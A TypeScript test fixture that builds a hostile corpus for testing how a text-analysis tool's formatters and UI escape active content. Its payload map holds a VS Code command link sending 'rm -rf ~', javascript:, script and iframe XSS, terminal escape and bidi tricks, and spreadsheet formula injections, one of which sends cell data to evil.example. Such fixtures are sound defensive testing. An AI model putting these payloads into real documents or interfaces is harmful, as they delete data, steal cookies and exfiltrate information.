// Hostile payloads and an Analysis built around them, so formatters and UI code can be tested on every kind of active text.
import * as path from 'path';
import type { Actor, Analysis, Claim, Entity, Quote } from '../../src/analysis/types';

/** Folder of the committed hostile corpus, from both `test/hostile` (ts-node) and `out/test/hostile` (compiled). */
export const HOSTILE_ROOT = path.basename(path.resolve(__dirname, '..', '..')) === 'out'
  ? path.resolve(__dirname, '..', '..', '..', 'test', 'hostile')
  : __dirname;

/** Text that would act if rendered raw: as a link, HTML, terminal control, formula or reordered display. */
export const HOSTILE_PAYLOADS: Readonly<Record<string, string>> = {
  commandLink: '[Click here](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%20-rf%20~%5Cn%22%7D)',
  javascriptLink: '[evidence](javascript:alert(document.cookie))',
  image: '![tracker](https://evil.example/pixel.png)',
  angleAutolink: '<https://evil.example/login> <command:workbench.action.quit>',
  bareUrl: 'https://evil.example/a www.evil.example mailto:boss@evil.example boss@evil.example',
  referenceLink: '[the minutes][1]\n\n[1]: command:workbench.action.quit',
  script: '<script>alert(1)</script>',
  imgOnError: '<img src=x onerror="alert(2)">',
  anchorJavascript: '<a href="javascript:alert(3)">proof</a>',
  iframe: '<iframe src="https://evil.example"></iframe>',
  htmlComment: '<!-- hidden --> visible',
  entities: '&lt;script&gt; &#x6A;avascript:alert(4) &amp;',
  codeFence: '```js\nrm -rf /\n```',
  codeSpan: 'Minister `Ava Jones`',
  lineStarts: '# Breaking\n> quoted\n- item\n1. first\n    indented code\n===',
  table: '| a | b |\n|---|---|\n| c | d |',
  emphasis: '**bold** _it_ ~~gone~~ $x^2$ $(terminal)',
  ansiColour: '\u001b[31mRED\u001b[0m\u001b[2J\u001b[H',
  ansiTitle: '\u001b]0;pwned title\u0007Raman',
  osc8Hyperlink: '\u001b]8;;https://evil.example\u001b\\harmless\u001b]8;;\u001b\\',
  c1Escape: '\u009b31mC1\u009b0m',
  backspaces: 'Nothing to see\b\b\b\b\b\b\b\b\b\b\b\b\b\bAll fine',
  bidiOverride: 'Sam\u202e sregoR\u202c',
  bidiIsolates: 'access = \u2066admin\u2069 \u202aok\u202c \u2067مرحبا\u2069',
  formulaEquals: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  formulaPlus: "+cmd|' /C calc'!A0",
  formulaMinus: "-2+3+cmd|' /C calc'!A0",
  formulaAt: '@SUM(1+9)*cmd',
  formulaTab: '\t=1+1',
  formulaSpace: '  =1+1',
  csvQuotes: 'a "quoted", comma\r\nand a CRLF',
  lineSeparators: 'one\u2028two\u2029three\u0085four\rfive',
};

interface Located {
  start: number;
  end: number;
  line: number;
  text: string;
}

/** Builds a source text from pieces and remembers where each piece landed. */
class SourceBuilder {
  text = '';

  add(piece: string): Located {
    const start = this.text.length;
    this.text += piece;
    const line = this.text.slice(0, start).split('\n').length;
    return { start, end: this.text.length, line, text: piece };
  }
}

/**
 * An Analysis whose every text field (names, aliases, roles, cues, claims, quotes, dates, warnings and the
 * document name) carries a hostile payload, with spans that are true slices of `analysis.source`.
 */
export function buildHostileAnalysis(documentName = 'hostile/[doc](command:x)<b>.txt'): { analysis: Analysis; source: string } {
  const source = new SourceBuilder();
  const payloadNames = Object.keys(HOSTILE_PAYLOADS);
  const actors: Actor[] = [];
  const claims: Claim[] = [];
  const quotes: Quote[] = [];
  const entities: Entity[] = [];

  payloadNames.forEach((payloadName, index) => {
    const payload = HOSTILE_PAYLOADS[payloadName];
    const actorId = `actor-${index}`;
    const claimId = `claim-${index}`;
    const speaker = source.add(`${payload} `);
    const cue = source.add(index % 2 === 0 ? 'said' : payload);
    source.add(' "');
    const claimSpan = source.add(payload);
    source.add('" on ');
    const dateSpan = source.add(payload);
    source.add('.\n\n');
    const type = (['PERSON', 'ORG', 'PLACE'] as const)[index % 3];
    const mention = { ...speaker, text: speaker.text, kind: 'name' as const };
    actors.push({
      id: actorId,
      name: payload,
      type,
      aliases: [payload, `${payloadName} ${payload}`],
      roles: [payload],
      mentions: [mention],
      claimIds: index % 5 === 4 ? [] : [claimId],
    });
    entities.push({ ...speaker, type, actorId, role: payload });
    entities.push({ ...dateSpan, type: 'DATE', value: payload });
    if (index % 5 !== 4) {
      const resolved = index % 7 !== 3;
      claims.push({
        ...claimSpan,
        id: claimId,
        speakerId: resolved ? actorId : null,
        speaker: payload,
        cue: cue.text,
        cueSpan: cue,
        speakerSpan: speaker,
        kind: index % 2 === 0 ? 'direct' : 'indirect',
        // The evidence's mentions carry the hostile text too: every export writes them.
        evidence: index % 2 === 0 ? { ...speaker, kind: 'name' } : { ...speaker, kind: 'pronoun', via: dateSpan },
        confidence: (index % 10) / 10,
      });
      quotes.push({ ...claimSpan, marked: true, open: '"', close: '"', claimId });
    } else {
      quotes.push({ ...claimSpan, marked: index % 2 === 0 });
    }
  });

  const lines = source.text.split('\n').length;
  const analysis: Analysis = {
    schema: 1,
    document: documentName,
    documentDate: '2024-05-02',
    documentDateSource: 'caller',
    entities,
    actors,
    quotes,
    claims,
    sentences: [],
    stats: { characters: source.text.length, lines, paragraphs: payloadNames.length, sentences: 0, tokens: 0, elapsedMs: 0 },
    warnings: [HOSTILE_PAYLOADS.commandLink, HOSTILE_PAYLOADS.ansiColour],
  };
  return { analysis, source: source.text };
}
